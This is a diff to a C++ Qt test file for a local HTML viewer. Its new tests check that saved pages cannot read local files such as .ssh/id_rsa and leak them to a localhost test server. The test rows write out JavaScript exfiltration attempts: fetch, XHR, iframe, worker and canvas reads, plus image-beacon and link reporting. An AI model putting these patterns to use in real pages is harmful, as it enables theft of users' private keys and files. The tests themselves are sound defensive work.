@@ -7,14 +7,20 @@
 #include "support/web_test_main.h"
 
 #include <QAction>
+#include <QBuffer>
 #include <QDir>
 #include <QDropEvent>
 #include <QEventLoop>
 #include <QFile>
+#include <QImage>
 #include <QMimeData>
 #include <QPointer>
+#include <QScopeGuard>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTimer>
+#include <QWebEngineFindTextResult>
 #include <QWebEnginePage>
 #include <QWebEngineView>
 
@@ -28,6 +34,7 @@
 #include <cups/cups.h>
 #include <memory>
 #include <sys/stat.h>
+#include <unistd.h>
 
 namespace {
 
@@ -52,6 +59,58 @@ QByteArray pngPicture()
     return QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8"
                                   "BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
 }
+
+// A picture of one colour, whose pixels a script would report if it could read them.
+QByteArray pngOfColour(const QColor& colour)
+{
+    QImage image(4, 4, QImage::Format_RGB32);
+    image.fill(colour);
+    QByteArray png;
+    QBuffer buffer(&png);
+    buffer.open(QIODevice::WriteOnly);
+    image.save(&buffer, "PNG");
+    return png;
+}
+
+// A web server on 127.0.0.1 standing for the web: it serves a picture at /online.png, answers
+// everything else with an empty page, and keeps every request it receives, whole.
+class WebServer : public QObject {
+public:
+    bool listen()
+    {
+        connect(&server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* socket = server.nextPendingConnection()) {
+                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { serve(socket); });
+                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
+            }
+        });
+        return server.listen(QHostAddress::LocalHost);
+    }
+    int port() const { return server.serverPort(); }
+    QStringList requests() const { return received; }
+
+private:
+    void serve(QTcpSocket* socket)
+    {
+        QByteArray& head = heads[socket];
+        head += socket->readAll();
+        if (!head.contains("\r\n\r\n"))
+            return;
+        received << QString::fromLatin1(QByteArray::fromPercentEncoding(head));
+        const QByteArray body =
+            head.startsWith("GET /online.png") ? pngOfColour(Qt::green) : QByteArray();
+        const QByteArray type = body.isEmpty() ? "text/html" : "image/png";
+        socket->write("HTTP/1.1 200 OK\r\nContent-Type: " + type +
+                      "\r\nConnection: close\r\nContent-Length: " +
+                      QByteArray::number(body.size()) + "\r\n\r\n" + body);
+        socket->disconnectFromHost();
+        heads.remove(socket);
+    }
+
+    QTcpServer server;
+    QStringList received;
+    QHash<QTcpSocket*, QByteArray> heads;
+};
 
 // The real window over the real viewer, the program in a temporary folder.
 struct RealWindow {
@@ -101,6 +160,19 @@ struct RealWindow {
         QVERIFY(surface);
         QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier,
                           QPoint(box[0].toInt(), box[1].toInt()));
+    }
+
+    // Whether the page shows the text, as the find command sees it.
+    bool shows(const QString& text)
+    {
+        auto matches = std::make_shared<int>(-1);
+        viewer->view()->page()->findText(text, {}, [matches](const QWebEngineFindTextResult& r) {
+            *matches = r.numberOfMatches();
+        });
+        if (!QTest::qWaitFor([&] { return *matches >= 0; }, loadTimeout))
+            return false;
+        viewer->view()->page()->findText(QString());
+        return *matches > 0;
     }
 
     QVariant runScript(const QString& script)
@@ -170,46 +242,181 @@ private slots:
         QTRY_COMPARE_WITH_TIMEOUT(Fichier_Courant, bytes(w.path("a.htm")), loadTimeout);
     }
 
-    void scriptsCannotReadOtherLocalFiles()
+    // Each row is one attempt of a saved page to read a local file and send it to the web: the
+    // page reports what it read (or "refused") to a web server of the test's, on load and through
+    // a full-window link clicked once. The server must receive nothing secret, while the page
+    // still shows its own picture and a picture from the web.
+    void aSavedPageShowsButNeverReads_data()
     {
+        QTest::addColumn<bool>("atTheRoot");  // the page saved at "/" rather than in the home
+        QTest::addColumn<QString>("markup");  // "HOME/" stands for the home, relative to the page
+        QTest::addColumn<QString>("attempt"); // a function whose value is what was read
+        const auto row = [](const char* name, bool atTheRoot, const char* markup,
+                            const char* attempt) {
+            QTest::newRow(name) << atTheRoot << QString(markup) << QString(attempt);
+        };
+        row("frame's document", false, "<iframe id=f src='HOME/.ssh/id_rsa'></iframe>",
+            "() => f.contentDocument.body.innerText");
+        row("frame's window", false, "<iframe src='HOME/.ssh/id_rsa'></iframe>",
+            "() => frames[0].document.body.innerText");
+        row("object", false, "<object id=o data='HOME/.ssh/id_rsa' type='text/plain'></object>",
+            "() => o.contentDocument.body.innerText");
+        row("picture of the folder tree on a canvas", false,
+            "<img id=p src='HOME/Pictures/photo.png'>", "() => pixelsOf(p)");
+        row("the page's own picture on a canvas", false, "", "() => pixelsOf(own)");
+        row("picture asked for with CORS", false,
+            "<img id=p crossorigin=anonymous src='HOME/Pictures/photo.png'>", "() => pixelsOf(p)");
+        row("style sheet rules", false, "<link rel=stylesheet href='HOME/.config/secret.css'>",
+            "() => [...document.styleSheets].map(s => [...s.cssRules].map(r => r.cssText))");
+        row("error text of a script", false, "<script src='HOME/.ssh/id_rsa'></script>",
+            "() => errors.join()");
+        row("fetch", false, "", "() => fetch('HOME/.ssh/id_rsa').then(r => r.text())");
+        row("fetch of a file address", false, "",
+            "() => fetch('file://ABSOLUTE/.ssh/id_rsa').then(r => r.text())");
+        row("request", false, "",
+            "() => { const x = new XMLHttpRequest(); x.open('GET', 'HOME/.ssh/id_rsa', false);"
+            " x.send(); return x.responseText; }");
+        row("event source", false, "",
+            "() => new Promise((ok, no) => { const s = new EventSource('HOME/.ssh/id_rsa');"
+            " s.onmessage = m => ok(m.data); s.onerror = no; })");
+        row("worker", false, "",
+            "() => new Promise((ok, no) => { const w = new Worker('HOME/reader.js');"
+            " w.onmessage = m => ok(m.data); w.onerror = no; })");
+        row("the file server's address taken from a style", false,
+            "<div id=d style=\"background-image: url('HOME/Pictures/photo.png')\"></div>",
+            "() => fetch(getComputedStyle(d).backgroundImage.slice(5, -2)"
+            ".replace('Pictures/photo.png', '.ssh/id_rsa')).then(r => r.text())");
+        row("a framed page reading its neighbour", false,
+            "<iframe src='HOME/page_files/framed.htm'></iframe>",
+            "() => new Promise(ok => addEventListener('message', m => ok(m.data)))");
+        row("frame, page at the root", true, "<iframe id=f src='HOME/.ssh/id_rsa'></iframe>",
+            "() => f.contentDocument.body.innerText");
+        row("picture, page at the root", true, "<img id=p src='HOME/Pictures/photo.png'>",
+            "() => pixelsOf(p)");
+    }
+    void aSavedPageShowsButNeverReads()
+    {
+        QFETCH(bool, atTheRoot);
+        QFETCH(QString, markup);
+        QFETCH(QString, attempt);
         RealWindow w;
-        write(w.path("secret.txt"), "SECRET-CONTENT");
-        write(w.path("site/page_files/x.png"), pngPicture());
-        write(w.path("site/page_files/own.htm"), "<p>OWN-FRAME</p>");
-        const QString secret = QUrl::fromLocalFile(w.path("secret.txt")).toString();
-        write(w.path("site/page.htm"),
+        WebServer web;
+        QVERIFY(web.listen());
+        const QString secret = "VelmoSecret4242";
+        write(w.path(".ssh/id_rsa"), secret.toUtf8());
+        write(w.path(".config/secret.css"), "." + secret.toUtf8() + " { color: red }");
+        write(w.path("Pictures/photo.png"), pngOfColour(QColor(18, 52, 86)));
+        write(w.path("reader.js"), "fetch('.ssh/id_rsa').then(r => r.text())"
+                                   ".then(t => postMessage(t), () => postMessage('refused'));");
+        write(w.path("page_files/framed.htm"),
+              "<iframe id=n src='../.ssh/id_rsa'></iframe><script>onload = () => { let v;"
+              " try { v = n.contentDocument.body.innerText } catch (e) { v = 'refused' }"
+              " parent.postMessage(String(v), '*') }</script>");
+
+        // The page in the home, or at the root naming the home by its path.
+        QString page = w.path("page.htm");
+        QString home;
+        if (atTheRoot) {
+            page =
+                QStringLiteral("/velmo-isolation-%1.htm").arg(QCoreApplication::applicationPid());
+            if (!QFileInfo(QStringLiteral("/")).isWritable() || ::access("/", W_OK) != 0)
+                QSKIP(
+                    "a page at the root of the file system needs an account that may write there");
+            home = w.dir.path().mid(1) + "/";
+        }
+        const QString online = QStringLiteral("http://127.0.0.1:%1").arg(web.port());
+        write(page,
               QStringLiteral(
-                  "<html><body><img id=img src=\"page_files/x.png\">"
-                  "<iframe id=outside src=\"%1\"></iframe>"
-                  "<iframe id=own src=\"page_files/own.htm\"></iframe><script>"
-                  "window.results = {};"
-                  "fetch('%1').then(r => r.text()).then(t => results.fetch = t,"
-                  "  () => results.fetch = 'blocked');"
-                  "const x = new XMLHttpRequest();"
-                  "x.onload = () => results.xhr = x.responseText;"
-                  "x.onerror = () => results.xhr = 'blocked';"
-                  "try { x.open('GET', '%1'); x.send(); } catch (e) { results.xhr = 'blocked'; }"
-                  "</script></body></html>")
-                  .arg(secret)
+                  "<html><body><script>window.errors = []; onerror = m => { errors.push(m) };"
+                  "function pixelsOf(img) { const c = document.createElement('canvas');"
+                  " const g = c.getContext('2d'); g.drawImage(img, 0, 0);"
+                  " return g.getImageData(0, 0, 1, 1).data.join(); }"
+                  "function report(value) { window.result = String(value);"
+                  " new Image().src = '%2/load?' + encodeURIComponent(result);"
+                  " all.href = '%2/click?' + encodeURIComponent(result); }</script>"
+                  "<img id=own src='%1page_files/own.png'><img id=web src='%2/online.png'>%3"
+                  "<a id=all href='%2/click' style='position:fixed; inset:0; z-index:9'></a>"
+                  "<script>onload = () => Promise.resolve().then(%4).then(report,"
+                  " e => report('refused: ' + e));</script></body></html>")
+                  .arg(home, online, QString(markup).replace("HOME/", home),
+                       QString(attempt).replace("HOME/", home).replace("ABSOLUTE", w.dir.path()))
                   .toUtf8());
-        TForm1& form = w.create({bytes(w.path("site/page.htm"))});
-        QTRY_COMPARE_WITH_TIMEOUT(form.windowTitle(), w.path("site/page.htm"), loadTimeout);
-        QTRY_COMPARE_WITH_TIMEOUT(w.runScript("results.fetch").toString(), QString("blocked"),
-                                  loadTimeout);
-        QTRY_COMPARE_WITH_TIMEOUT(w.runScript("results.xhr").toString(), QString("blocked"),
-                                  loadTimeout);
-        QTRY_VERIFY_WITH_TIMEOUT(
-            w.runScript("document.getElementById('img').naturalWidth").toInt() > 0, loadTimeout);
-        // The frame of the page's own folder shows; the one outside it never does.
-        QTRY_COMPARE_WITH_TIMEOUT(
-            w.runScript("document.getElementById('own').contentDocument.body.innerText").toString(),
-            QString("OWN-FRAME"), loadTimeout);
-        const QString outside =
-            w.runScript("(() => { try { const d = document.getElementById('outside')"
-                        ".contentDocument; return d ? d.documentElement.outerHTML : 'none'; }"
-                        " catch (e) { return 'none'; } })()")
-                .toString();
-        QVERIFY2(!outside.contains("SECRET-CONTENT"), qPrintable(outside));
+        write(w.path("page_files/own.png"), pngOfColour(QColor(86, 52, 18)));
+        const auto removePage = qScopeGuard([&] {
+            if (atTheRoot)
+                QFile::remove(page);
+        });
+
+        TForm1& form = w.create({bytes(page)});
+        QTRY_COMPARE_WITH_TIMEOUT(form.windowTitle(), page, loadTimeout);
+        QString result;
+        QTRY_VERIFY_WITH_TIMEOUT(!(result = w.runScript("window.result").toString()).isEmpty(),
+                                 loadTimeout);
+        const QStringList secrets = {secret, "18,52,86", "86,52,18"};
+        for (const QString& text : secrets)
+            QVERIFY2(!result.contains(text), qPrintable(result));
+        // The page still shows its own picture and one from the web.
+        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("own.naturalWidth").toInt() > 0, loadTimeout);
+        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("web.naturalWidth").toInt() > 0, loadTimeout);
+
+        // The first click anywhere follows the link that holds what was read.
+        QTest::mouseClick(w.viewer->view()->focusProxy(), Qt::LeftButton, Qt::NoModifier,
+                          w.viewer->view()->rect().center());
+        QTRY_VERIFY_WITH_TIMEOUT(web.requests().join('\n').contains("GET /click"), loadTimeout);
+        const QString received = web.requests().join('\n');
+        for (const QString& text : secrets)
+            QVERIFY2(!received.contains(text), qPrintable(received));
+    }
+
+    // Documents of other kinds, and links that name a file by its full address, still show.
+    void everyKindOfLocalDocumentShows_data()
+    {
+        QTest::addColumn<QString>("opened");
+        QTest::addColumn<QString>("link"); // clicked once the opened page shows, if any
+        QTest::addColumn<QString>("shown");
+        QTest::addColumn<QString>("current");
+        QTest::newRow("web archive") << "a.mht"
+                                     << ""
+                                     << "ARCHIVE-TEXT"
+                                     << "a.mht";
+        QTest::newRow("folder") << "d"
+                                << ""
+                                << "b.htm"
+                                << "d";
+        QTest::newRow("link by a file address") << "links.htm"
+                                                << "file"
+                                                << "PAGE-B"
+                                                << "d/b.htm";
+        QTest::newRow("link to a web archive") << "links.htm"
+                                               << "archive"
+                                               << "ARCHIVE-TEXT"
+                                               << "a.mht";
+    }
+    void everyKindOfLocalDocumentShows()
+    {
+        QFETCH(QString, opened);
+        QFETCH(QString, link);
+        QFETCH(QString, shown);
+        QFETCH(QString, current);
+        RealWindow w;
+        write(w.path("d/b.htm"), "<html><body><p>PAGE-B</p></body></html>");
+        write(w.path("a.mht"),
+              "From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;"
+              " type=\"text/html\"; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/html\r\n"
+              "Content-Location: https://example.com/\r\n\r\n<html><body><p>ARCHIVE-TEXT</p>"
+              "</body></html>\r\n--B--\r\n");
+        write(w.path("links.htm"),
+              QStringLiteral("<html><body><a id=file href='%1'>b</a> <a id=archive href='a.mht'>a"
+                             "</a></body></html>")
+                  .arg(QUrl::fromLocalFile(w.path("d/b.htm")).toString())
+                  .toUtf8());
+        TForm1& form = w.create({bytes(w.path(opened))});
+        QTRY_COMPARE_WITH_TIMEOUT(form.windowTitle(), w.path(opened), loadTimeout);
+        if (!link.isEmpty())
+            w.clickLink(link);
+        QTRY_COMPARE_WITH_TIMEOUT(Fichier_Courant, bytes(w.path(current)), loadTimeout);
+        // Found by the find command: a web archive runs no script to ask.
+        QTRY_VERIFY_WITH_TIMEOUT(w.shows(shown), loadTimeout);
     }
 
     void awkwardNamesReachTheViewerIntact_data()
